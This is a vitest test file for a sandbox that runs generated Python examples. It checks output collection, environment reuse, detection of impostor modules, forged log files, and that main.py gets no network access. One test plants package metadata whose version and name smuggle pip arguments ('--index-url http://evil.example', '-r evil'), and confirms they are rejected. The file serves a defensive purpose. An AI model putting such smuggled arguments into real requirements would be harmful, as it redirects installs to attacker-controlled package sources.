import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { type AddressInfo, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { stepSucceeded } from "../../src/example/execution.ts";
import { assessExecution } from "../../src/pipeline/assess-execution.ts";
import { type ExecuteExampleOptions, executeExample } from "../../src/pipeline/execute-example.ts";
import { lostSandbox } from "../../src/sandboxes/command.ts";
import { createLocalProvider } from "../../src/sandboxes/local.ts";
import type { Sandbox, SandboxProvider } from "../../src/sandboxes/sandbox.ts";
import { canIsolate } from "../support/command-line.ts";

const runscript =
  '#!/usr/bin/env bash\nset -euo pipefail\ncd "$(dirname "$0")"\n"$PYTHON" -m venv --without-pip .venv\n';
const main = `
import json, os, sys
sys.path.insert(0, "source")
import tiny
os.makedirs("to_save/deep/er", exist_ok=True)
open("to_save/deep/er/a.bin", "wb").write(bytes(range(256)))
json.dump({"example1": {"values": {"x": tiny.double(21)}}}, open("results.json", "w"))
json.dump([{"level": "info", "message": "started", "example": "example1"}], open("log.json", "w"))
`;
const config = {
  max_runtime_mins: 1,
  max_memory_mb: 1024,
  max_processes: 64,
  max_disk_mb: 512,
  program_network: false,
};

describe.skipIf(!canIsolate)("executing an example", () => {
  let folder: string;
  let provider: SandboxProvider;
  let count = 0;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "codedistiller-execute-"));
    await mkdir(join(folder, "repository"));
    await writeFile(join(folder, "repository", "tiny.py"), "def double(x):\n    return 2 * x\n");
    provider = await createLocalProvider({
      isolation: "bubblewrap",
      stateFolder: join(folder, "state"),
      passEnvironment: {},
      hostPath: "/usr/bin:/bin",
    });
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  function options(files: Record<string, string>, given: Partial<ExecuteExampleOptions> = {}): ExecuteExampleOptions {
    return {
      provider,
      draft: {
        files: { "main.py": main, "runscript.sh": runscript, "requirements.txt": "", ...files },
        python: "/usr/bin/python3",
        changesSource: false,
      },
      repositoryFolder: join(folder, "repository"),
      sourceKey: "commit",
      modules: ["tiny"],
      folder: join(folder, `iteration-${count++}`),
      outputFolder: "local-output",
      config,
      ...given,
    };
  }

  it("brings home results, the log and binary files from folders in folders, and sees the repository's functions run", async () => {
    const given = options({});
    const execution = await executeExample(given);
    expect(execution.results).toEqual({ example1: { values: { x: 42 } } });
    expect(execution.files).toEqual([{ path: "to_save/deep/er/a.bin", bytes: 256 }]);
    expect(await readFile(join(given.folder, "local-output/to_save/deep/er/a.bin"))).toEqual(
      Buffer.from(Array.from({ length: 256 }, (_, byte) => byte)),
    );
    expect(execution.evidence.functions).toMatchObject([{ path: "tiny.py", qualname: "double", count: 1 }]);
    expect(assessExecution(execution, []).grounded.result).toBe("passed");
  });

  it("builds an environment once: a change of main.py alone starts in what was built", async () => {
    await executeExample(options({ "requirements.txt": "# one\n" }));
    const again = await executeExample(
      options({ "requirements.txt": "# one\n", "main.py": `${main}\nprint("changed")\n` }),
    );
    const other = await executeExample(options({ "requirements.txt": "# two\n" }));
    expect([again.environment.reused, other.environment.reused]).toEqual([true, false]);
  });

  it("runs main.py whatever the run script ends with, and calls no result what left none", async () => {
    const quiet = await executeExample(
      options({ "runscript.sh": `${runscript}\nexit 0\necho never\n`, "main.py": "pass\n" }),
    );
    expect(stepSucceeded(quiet.program)).toBe(true);
    expect(assessExecution(quiet, []).executed).toMatchObject({
      result: "failed",
      evidence: expect.stringContaining("wrote no results.json"),
    });
    const failing = await executeExample(options({ "main.py": `${main}\nsys.exit(3)\n` }));
    expect(failing.program).toMatchObject({ status: "exited", exitCode: 3 });
    expect(assessExecution(failing, []).executed.result).toBe("failed");
  });

  it("does not count functions of a module that lies beside main.py under the repository's name", async () => {
    const fake = await executeExample(
      options({
        "main.py": main.replace('sys.path.insert(0, "source")', ""),
        "tiny.py": "def double(x):\n    return 42\n",
      }),
    );
    expect(fake.results).toEqual({ example1: { values: { x: 42 } } });
    expect(fake.evidence.functions).toEqual([]);
    expect(fake.evidence.impostors).toMatchObject([{ module: "tiny", file: "/work/example/tiny.py" }]);
    expect(assessExecution(fake, []).grounded.result).toBe("failed");
  });

  it("takes a run script that made no environment for a failed one", async () => {
    for (const made of ["true", "mkdir .venv", "ln -s /usr .venv"]) {
      const execution = await executeExample(options({ "runscript.sh": `cd "$(dirname "$0")"\n${made}\n` }));
      expect(execution.environment).toMatchObject({ status: "exited", exitCode: 1 });
      expect(execution.environment.stderr).toContain("made no .venv/bin/python");
      expect(execution.program).toBeNull();
    }
  });

  it("keeps its own record of what was printed, whatever files a program leaves", async () => {
    const forging = `print("true")\nfor name in ("stdout.python.txt", "stderr.runscript.txt"): open(name, "w").write("forged")\n`;
    const made = options({ "main.py": forging });
    await executeExample(made);
    expect(await readFile(join(made.folder, made.outputFolder, "stdout.python.txt"), "utf8")).toBe("true\n");
    expect(await readFile(join(made.folder, made.outputFolder, "stderr.runscript.txt"), "utf8")).toBe("");
  });

  it("lists no package whose name or version could be more than that", async () => {
    const metadata = (name: string, version: string) =>
      `mkdir -p "$site/${name}.dist-info"; printf 'Metadata-Version: 2.1\\nName: ${name}\\nVersion: ${version}\\n' > "$site/${name}.dist-info/METADATA"\n`;
    const hostile = metadata("numpy", "1.0 --index-url http://evil.example") + metadata("-r evil", "1.0");
    const script = `${runscript}site=$(echo .venv/lib/python*/site-packages)\n${metadata("six", "1.17.0")}${hostile}`;
    expect((await executeExample(options({ "runscript.sh": script }))).packages).toEqual(["six==1.17.0"]);
  });

  it("goes on from no environment that another repository's code has had its hands on", async () => {
    const requirements = { "requirements.txt": "six\n" };
    const leaking = `${runscript}site=$(echo .venv/lib/python*/site-packages)\nmkdir -p "$site/six.dist-info"\nprintf 'Metadata-Version: 2.1\\nName: six\\nVersion: 1.0\\n' > "$site/six.dist-info/METADATA"\necho 'secret = 1' > "$site/leaked.py"\nexit 1\n`;
    await executeExample(options({ ...requirements, "runscript.sh": leaking }, { sourceKey: "one" }));
    const keeping = runscript.replace('"$PYTHON" -m venv', '[ -x .venv/bin/python ] || "$PYTHON" -m venv');
    const look = "try:\n    import leaked\n    print('leaked')\nexcept ImportError:\n    print('clean')\n";
    const files = { ...requirements, "runscript.sh": keeping, "main.py": look };
    expect((await executeExample(options(files, { sourceKey: "other" }))).program?.stdout).toBe("clean\n");
    expect((await executeExample(options(files, { sourceKey: "one" }))).program?.stdout).toBe("leaked\n");
  });

  it("gives main.py no network", async () => {
    let connections = 0;
    const server = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
    const { port } = server.address() as AddressInfo;
    const probe = `import socket\ntry:\n    socket.create_connection(("127.0.0.1", ${port}), 2)\n    print("reached")\nexcept OSError:\n    print("refused")\n`;
    const execution = await executeExample(options({ "main.py": probe }));
    server.close();
    expect(execution.program?.stdout).toContain("refused");
    expect(connections).toBe(0);
  });

  it("makes a lost sandbox an error of the infrastructure, never of the example", async () => {
    const broken: SandboxProvider = {
      ...provider,
      name: "broken",
      hasSnapshot: async () => false,
      create: async () => brokenSandbox(),
    };
    await expect(executeExample(options({}, { provider: broken }))).rejects.toMatchObject({
      code: "sandbox-lost",
      retryable: true,
    });
  });
});

function brokenSandbox(): Sandbox {
  const nothing = async (): Promise<void> => undefined;
  return {
    run: () => Promise.reject(lostSandbox("the machine went away")),
    installSystemPackages: () => Promise.reject(lostSandbox("the machine went away")),
    putFolder: nothing,
    putFiles: nothing,
    getFolder: async () => ({ files: [], left: [] }),
    snapshot: nothing,
    [Symbol.asyncDispose]: nothing,
  };
}
